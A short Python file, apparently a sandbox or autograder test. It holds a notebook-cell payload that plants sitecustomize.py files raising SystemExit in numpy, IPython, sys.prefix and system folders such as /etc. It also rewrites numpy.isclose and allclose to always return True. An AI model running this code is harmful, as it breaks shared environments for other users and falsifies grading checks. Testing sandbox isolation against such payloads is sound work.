"""Writes into the Python and the packages that everybody's code runs with."""

CELL = r"""
import os, sys, numpy, IPython
for place in (os.path.dirname(numpy.__file__), os.path.dirname(IPython.__file__), sys.prefix, '/run/course', '/usr/lib', '/etc'):
    try:
        open(os.path.join(place, 'sitecustomize.py'), 'w').write('raise SystemExit')
        print('WROTE', place)
    except OSError as error:
        print(error)
try:
    open('/run/course/inside.py', 'a').write('#')
    print('WROTE')
except OSError as error:
    print(error)
numpy.isclose = numpy.allclose = lambda *values, **more: True
"""
